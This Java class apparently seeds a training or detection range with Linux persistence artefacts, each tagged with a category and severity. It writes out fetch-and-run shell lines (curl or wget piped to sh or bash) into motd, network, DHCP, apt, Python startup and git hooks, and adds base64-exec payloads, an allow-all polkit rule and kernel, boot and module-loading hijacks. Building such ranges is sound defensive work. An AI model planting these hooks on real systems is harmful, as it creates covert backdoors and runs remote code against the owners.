package davy.range.plant;

/// What intruders leave in hooks: devices, logins, networks, packages, Python, git, modules, boot.
final class HookArtefacts {
    private HookArtefacts() {}

    static void plant(Ground ground) {
        devices(ground);
        sessions(ground);
        packages(ground);
        python(ground);
        git(ground);
        modules(ground);
        policy(ground);
        boot(ground);
    }

    private static void devices(Ground ground) {
        String program = ground.program("/usr/lib/udev/" + ground.word(), ground.inert.program());
        String rule =
                ground.write(
                        "/etc/udev/rules.d/99-" + ground.word() + ".rules",
                        "ACTION==\"add\", ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", RUN+=\""
                                + program
                                + " +\"\n");
        ground.artefact("udev starts a program at boot", "udev", "high", rule);
    }

    private static void sessions(Ground ground) {
        String fetch = "#!/bin/sh\ncurl -s " + ground.dice.url() + " | sh >/dev/null 2>&1 &\n";
        String motd =
                ground.script(
                        "/etc/update-motd.d/" + ground.dice.between(11, 98) + "-" + ground.word(),
                        fetch);
        ground.artefact("message of the day fetches", "motd-hook", "high", motd);

        String up =
                ground.script(
                        "/etc/network/if-up.d/" + ground.word(),
                        "#!/bin/sh\n(wget -qO- " + ground.dice.url() + " | bash) &\n");
        ground.artefact("network start fetches", "motd-hook", "high", up);

        String lease = ground.script("/etc/dhcp/dhclient-exit-hooks.d/" + ground.word(), fetch);
        ground.artefact("DHCP lease fetches", "motd-hook", "high", lease);

        String program = ground.program("/var/tmp/." + ground.word(), ground.inert.program());
        String entry =
                ground.write(
                        "/etc/xdg/autostart/" + ground.word() + ".desktop",
                        "[Desktop Entry]\nType=Application\nName=Update\nExec=" + program + "\n");
        ground.artefact("desktop starts a hidden program", "xdg-autostart", "medium", entry);
    }

    private static void packages(Ground ground) {
        String hook =
                ground.write(
                        "/etc/apt/apt.conf.d/" + ground.dice.between(30, 90) + ground.word(),
                        "APT::Update::Pre-Invoke {\"(curl -s "
                                + ground.dice.url()
                                + " | sh) 2>/dev/null &\";};\n");
        ground.artefact("apt fetches and runs", "package-hook", "high", hook);
    }

    private static void python(Ground ground) {
        String hidden = Inert.base64("import os\nos.system('/var/tmp/." + ground.word() + "')\n");
        String path =
                ground.write(
                        "/usr/lib/python3/dist-packages/" + ground.word() + ".pth",
                        "import base64;exec(base64.b64decode('" + hidden + "'))\n");
        ground.artefact("Python runs a line at each start", "python-startup", "high", path);

        String site =
                ground.write(
                        "/usr/local/lib/python3.11/dist-packages/sitecustomize.py",
                        "import subprocess\nsubprocess.Popen(['sh','-c','curl -s "
                                + ground.dice.url()
                                + " | sh'])\n");
        ground.artefact("sitecustomize fetches", "python-startup", "high", site);
    }

    private static void git(Ground ground) {
        String place = "/srv/" + ground.word() + "/.git/";
        ground.write(place + "HEAD", "ref: refs/heads/main\n");
        ground.write(place + "config", "[core]\n\trepositoryformatversion = 0\n");
        ground.directory(place + "objects");
        ground.directory(place + "refs");
        String hook =
                ground.script(
                        place
                                + "hooks/"
                                + ground.dice.pick("post-merge", "pre-commit", "post-checkout"),
                        "#!/bin/sh\ncurl -s " + ground.dice.url() + " | bash &\n");
        ground.artefact("git hook fetches", "git-hook", "high", hook);
    }

    private static void modules(Ground ground) {
        String name = ground.word();
        String module = "/usr/lib/modules/6.1.0-18-amd64/kernel/net/" + name + ".ko";
        ground.write(module, ground.inert.module());
        ground.write("/etc/modules-load.d/" + name + ".conf", name + "\n");
        ground.artefact("module of no package, loaded at boot", "module-load", "high", name);

        String far = ground.write("/usr/share/" + ground.word() + ".ko", ground.inert.module());
        String install =
                ground.write(
                        "/etc/modprobe.d/" + ground.word() + ".conf",
                        "install floppy /sbin/insmod " + far + "\n");
        ground.artefact("modprobe inserts a module from afar", "module-load", "high", install);
    }

    private static void policy(Ground ground) {
        String rule =
                ground.write(
                        "/etc/polkit-1/rules.d/"
                                + ground.dice.between(10, 48)
                                + "-"
                                + ground.word()
                                + ".rules",
                        "polkit.addRule(function(action, subject) { return polkit.Result.YES; });\n");
        ground.artefact("polkit allows everything", "dbus-polkit", "medium", rule);

        String name = "org." + ground.word() + "." + ground.word();
        String bus =
                ground.write(
                        "/usr/share/dbus-1/system-services/" + name + ".service",
                        "[D-BUS Service]\nName="
                                + name
                                + "\nExec=/var/tmp/."
                                + ground.word()
                                + "\nUser=root\n");
        ground.artefact("D-Bus starts a hidden program", "dbus-polkit", "medium", bus);
    }

    private static void boot(Ground ground) {
        String first = "/usr/lib/." + ground.word() + "/init";
        ground.program(first, ground.inert.staticProgram());
        String menu =
                ground.write(
                        "/boot/grub/grub.cfg",
                        "menuentry 'Debian' {\n\tlinux /boot/vmlinuz-6.1.0-18-amd64 root=/dev/vda1 ro quiet init="
                                + first
                                + "\n}\n");
        ground.artefact("kernel starts another init", "boot-parameter", "high", menu);

        String dumper =
                ground.program("/usr/lib/" + ground.word() + "/dump", ground.inert.program());
        String setting =
                ground.write(
                        "/etc/sysctl.d/"
                                + ground.dice.between(10, 98)
                                + "-"
                                + ground.word()
                                + ".conf",
                        "kernel.core_pattern = |" + dumper + " %p\n");
        ground.artefact("core dumps go to a strange program", "kernel-setting", "high", setting);

        String interpreter =
                ground.program("/var/lib/" + ground.word() + "/run", ground.inert.program());
        String format =
                ground.write(
                        "/etc/binfmt.d/" + ground.word() + ".conf",
                        ":x" + ground.word() + ":M::\\x7fELF::" + interpreter + ":C\n");
        ground.artefact("strange program runs every executable", "kernel-setting", "high", format);
    }
}
